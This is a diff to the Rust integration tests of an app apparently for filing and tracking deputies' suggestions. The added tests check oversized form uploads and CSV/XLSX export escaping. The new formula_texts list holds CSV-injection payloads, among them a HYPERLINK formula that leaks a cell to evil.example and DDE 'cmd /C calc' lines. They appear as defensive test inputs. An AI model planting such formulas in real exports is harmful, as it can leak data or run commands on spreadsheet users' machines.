@@ -50,6 +50,16 @@ pub fn trials() -> Vec<Trial> {
     ));
     trials.extend(on_both(
         "hostile",
+        "a_form_over_the_pages_limit_is_413_on_an_error_page_and_appends_nothing",
+        a_form_over_the_pages_limit_is_413_on_an_error_page_and_appends_nothing,
+    ));
+    trials.extend(on_both(
+        "hostile",
+        "formula_like_texts_get_a_quote_in_csv_downloads_and_stay_strings_in_workbooks",
+        formula_like_texts_get_a_quote_in_csv_downloads_and_stay_strings_in_workbooks,
+    ));
+    trials.extend(on_both(
+        "hostile",
         "hostile_exec_lines_are_each_refused_and_append_nothing",
         hostile_exec_lines_are_each_refused_and_append_nothing,
     ));
@@ -58,12 +68,12 @@ pub fn trials() -> Vec<Trial> {
 
 /// The log as an auditor pins it: its size and its Merkle root.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
-struct LogState {
+pub struct LogState {
     tree_size: u64,
     root: Hash,
 }
 
-async fn log_state(store: &dyn infra::store::EventStore) -> LogState {
+pub async fn log_state(store: &dyn infra::store::EventStore) -> LogState {
     let tree_size = store.head().await.expect("head").tree_size;
     let root = store.root(tree_size).await.expect("root");
     LogState { tree_size, root }
@@ -475,6 +485,63 @@ async fn hostile_bodies_get_their_status_and_code_and_append_nothing(db: Fresh) 
     tried("hostile_bodies", &db, cases.len());
 }
 
+/// A filing form one byte over `FORM_BODY_BYTES_MAX`, announced by its Content-Length and
+/// streamed without one, in Chinese and in English: each is 413 `too_large` on the pages' own
+/// error page (not the API's JSON), and nothing is appended. A form at the limit is filed (see
+/// `web::forms`).
+async fn a_form_over_the_pages_limit_is_413_on_an_error_page_and_appends_nothing(db: Fresh) {
+    let api = Api::new(&db).await;
+    let session = crate::web::log_in(&api, "liaison-web", Role::Liaison).await;
+    let before = log_state(&*api.stores.events).await;
+    let mut form = serde_urlencoded::to_string([
+        ("command", "FileItem"),
+        ("csrf", session.csrf.as_str()),
+        ("item_id", "2024-H-413"),
+        ("kind", "suggestion"),
+        ("title", "标题"),
+        ("deputies.0.id", "d-1"),
+        ("deputies.0.name", "王芳"),
+        ("body", ""),
+    ])
+    .expect("form");
+    form.push_str(&"x".repeat(huiyin::http::FORM_BODY_BYTES_MAX + 1 - form.len()));
+    assert_eq!(form.len(), huiyin::http::FORM_BODY_BYTES_MAX + 1);
+    let mut inputs = 0;
+    for (lang, words) in [("zh", "提交的内容过大"), ("en", "too large")] {
+        for announced in [true, false] {
+            let cookie = format!("{}; huiyin_lang={lang}", session.cookie);
+            let builder = Request::builder()
+                .method(Method::POST)
+                .uri("/forms")
+                .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
+                .header(header::COOKIE, cookie);
+            let sent = if announced {
+                builder
+                    .header(header::CONTENT_LENGTH, form.len())
+                    .body(Body::from(form.clone()))
+            } else {
+                let chunks: Vec<Result<String, std::io::Error>> = form
+                    .as_bytes()
+                    .chunks(16 * 1024)
+                    .map(|chunk| Ok(String::from_utf8(chunk.to_vec()).expect("ASCII")))
+                    .collect();
+                builder.body(Body::from_stream(futures::stream::iter(chunks)))
+            }
+            .expect("request");
+            let page = crate::web::send(&api, sent).await;
+            let html = page.expect_html(StatusCode::PAYLOAD_TOO_LARGE);
+            assert!(
+                html.contains(r#"<p id="flash" class="error" data-code="too_large">"#),
+                "{html}"
+            );
+            assert!(html.contains(words), "{lang}: {html}");
+            inputs += 1;
+        }
+    }
+    assert_eq!(log_state(&*api.stores.events).await, before);
+    tried("oversized_forms", &db, inputs);
+}
+
 // ---------------------------------------------------------------------------------------------
 // Credentials.
 
@@ -842,6 +909,22 @@ pub fn interpreted_texts() -> Vec<&'static str> {
         "zero\u{200b}width\u{feff}marks",
         "a NUL\u{0} in the middle, and other controls \u{1b}[31m\u{7}",
     ]
+    .into_iter()
+    .chain(formula_texts())
+    .collect()
+}
+
+/// Texts a spreadsheet would run as a formula if a CSV cell started with them (OWASP's "CSV
+/// Injection" list: `=`, `+`, `-`, `@`, a tab, a carriage return).
+pub fn formula_texts() -> Vec<&'static str> {
+    vec![
+        "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"详情\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+9)*cmd|' /C calc'!A0",
+        "\t=1+1 after a tab",
+        "\r=1+1 after a carriage return",
+    ]
 }
 
 async fn strings_that_look_like_sql_html_or_paths_read_back_verbatim_and_escaped_on_pages(
@@ -939,6 +1022,192 @@ async fn strings_that_look_like_sql_html_or_paths_read_back_verbatim_and_escaped
         String::from_utf8_lossy(&verify.stdout)
     );
     tried("verbatim_strings", &db, texts.len() + 1);
+}
+
+/// Files an item for each formula-like text (in its title, body and deputy's name), triages it
+/// and assigns it to a leader and a lead unit named by the text; then reads the board and the
+/// figures as CSV (pages and `huiyin board|stats --format csv`) and as workbooks.
+async fn formula_like_texts_get_a_quote_in_csv_downloads_and_stay_strings_in_workbooks(db: Fresh) {
+    let api = Api::new(&db).await;
+    let cast = Cast::of(&api).await;
+    let texts = formula_texts();
+    for (n, text) in texts.iter().enumerate() {
+        let item = format!("2024-F-{n:03}");
+        let steps = [
+            (
+                &cast.liaison,
+                command(
+                    &format!("f-{n}"),
+                    "FileItem",
+                    "2024-03-01T09:00:00+08:00",
+                    json!({"item_id": item, "kind": "suggestion", "title": text, "body": text,
+                           "deputies": [{"id": "d-1", "name": text, "lead": true}]}),
+                ),
+            ),
+            (
+                &cast.office,
+                command(
+                    &format!("f-{n}-triage"),
+                    "TriageItem",
+                    "2024-03-04T09:00:00+08:00",
+                    json!({"item_id": item, "decision": "accept"}),
+                ),
+            ),
+            (
+                &cast.office,
+                command(
+                    &format!("f-{n}-assign"),
+                    "AssignItem",
+                    "2024-03-05T09:00:00+08:00",
+                    json!({"item_id": item, "lead_unit": text,
+                           "leader": {"id": format!("l-f{n}"), "name": text, "level": "vice_president"}}),
+                ),
+            ),
+        ];
+        for (token, step) in steps {
+            api.command(token, &step).await.expect(StatusCode::OK, None);
+        }
+    }
+    let before = log_state(&*api.stores.events).await;
+    // The ledger and JSON keep every text verbatim.
+    let board = api.get("/api/board", Some(&cast.auditor)).await;
+    board.expect(StatusCode::OK, None);
+    for (n, text) in texts.iter().enumerate() {
+        let row = board.body["items"]
+            .as_array()
+            .expect("items")
+            .iter()
+            .find(|row| row["item_id"] == format!("2024-F-{n:03}").as_str())
+            .expect("listed");
+        assert_eq!(row["title"], *text);
+        assert_eq!(row["leader"], *text);
+        assert_eq!(row["lead_unit"], *text);
+    }
+    // Every CSV: the board's and the figures', downloaded and printed.
+    let session = crate::web::log_in(&api, "office-web", Role::CourtOffice).await;
+    let mut boards = Vec::new();
+    let mut inputs = 0;
+    for path in ["/board.csv", "/figures.csv"] {
+        let page = crate::web::get(&api, path, Some(&session)).await;
+        page.expect(StatusCode::OK);
+        let table = csv_table(&page.html());
+        if path == "/board.csv" {
+            boards.push((path.to_owned(), table.clone()));
+        }
+        assert_no_formula_cells(path, &table);
+        inputs += 1;
+    }
+    for command in ["board", "stats"] {
+        let printed = crate::support::huiyin(&db, &[command, "--format", "csv"], "");
+        assert_eq!(
+            printed.status.code(),
+            Some(0),
+            "{}",
+            String::from_utf8_lossy(&printed.stderr)
+        );
+        let what = format!("huiyin {command} --format csv");
+        let table = csv_table(&String::from_utf8(printed.stdout).expect("UTF-8 CSV"));
+        assert_no_formula_cells(&what, &table);
+        if command == "board" {
+            boards.push((what, table));
+        }
+        inputs += 1;
+    }
+    // The board's text cells are the text with one quote before it, nothing else changed.
+    for (what, table) in &boards {
+        let header = &table[0];
+        let column = |name: &str| {
+            header
+                .iter()
+                .position(|cell| cell == name)
+                .unwrap_or_else(|| panic!("{what}: no column {name}"))
+        };
+        for (n, text) in texts.iter().enumerate() {
+            let row = table
+                .iter()
+                .find(|row| row[0] == format!("2024-F-{n:03}"))
+                .unwrap_or_else(|| panic!("{what}: no row for {text:?}"));
+            for name in ["title", "leader", "lead_unit", "deputies"] {
+                assert_eq!(row[column(name)], format!("'{text}"), "{what} {name}");
+            }
+        }
+    }
+    // The workbooks hold strings, never formulas: the board's cells are the texts verbatim.
+    for path in ["/board.xlsx", "/figures.xlsx"] {
+        let page = crate::web::get(&api, path, Some(&session)).await;
+        page.expect(StatusCode::OK);
+        let sheets = xlsx_sheets(path, &page.body);
+        if path == "/board.xlsx" {
+            let (_, cells) = &sheets[0];
+            for (n, text) in texts.iter().enumerate() {
+                let row = cells
+                    .iter()
+                    .find(|row| row[0] == calamine::Data::String(format!("2024-F-{n:03}")))
+                    .unwrap_or_else(|| panic!("{path}: no row for {text:?}"));
+                assert_eq!(
+                    row[BOARD_TITLE_COLUMN],
+                    calamine::Data::String((*text).to_owned())
+                );
+            }
+        }
+        inputs += 1;
+    }
+    assert_eq!(log_state(&*api.stores.events).await, before);
+    tried("formula_texts_in_tables", &db, inputs * texts.len());
+}
+
+/// Where the board's title is, in `huiyin::tables::BOARD_HEADER`.
+const BOARD_TITLE_COLUMN: usize = 12;
+
+/// CSV text (a byte order mark first or not) as rows of cells, the header row first.
+fn csv_table(text: &str) -> Vec<Vec<String>> {
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+    reader
+        .records()
+        .map(|record| {
+            record
+                .expect("a CSV record")
+                .iter()
+                .map(str::to_owned)
+                .collect()
+        })
+        .collect()
+}
+
+/// No cell of `table` starts as a formula would, unless it is a plain number (`-3` days left).
+fn assert_no_formula_cells(what: &str, table: &[Vec<String>]) {
+    assert!(table.len() > 1, "{what}: rows");
+    for row in table {
+        for cell in row {
+            let number = cell.parse::<f64>().is_ok() && !cell.contains(['e', 'E', 'n', 'N', 'i']);
+            assert!(
+                number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{what}: a cell a spreadsheet would run: {cell:?}"
+            );
+        }
+    }
+}
+
+/// Every sheet of a workbook with its cells; fails when any sheet holds a formula.
+fn xlsx_sheets(what: &str, bytes: &[u8]) -> Vec<(String, Vec<Vec<calamine::Data>>)> {
+    use calamine::Reader;
+    let cursor = std::io::Cursor::new(bytes.to_vec());
+    let mut workbook = calamine::open_workbook_auto_from_rs(cursor).expect("an XLSX workbook");
+    let mut sheets = Vec::new();
+    for name in workbook.sheet_names() {
+        let formulas = workbook.worksheet_formula(&name).expect("formulas");
+        assert!(
+            formulas
+                .used_cells()
+                .all(|(_, _, formula)| formula.is_empty()),
+            "{what} sheet {name} holds a formula"
+        );
+        let cells = workbook.worksheet_range(&name).expect("cells");
+        sheets.push((name, cells.rows().map(<[calamine::Data]>::to_vec).collect()));
+    }
+    sheets
 }
 
 /// Text as HTML shows it: `&`, `<`, `>` and `"` escaped (what maud does).
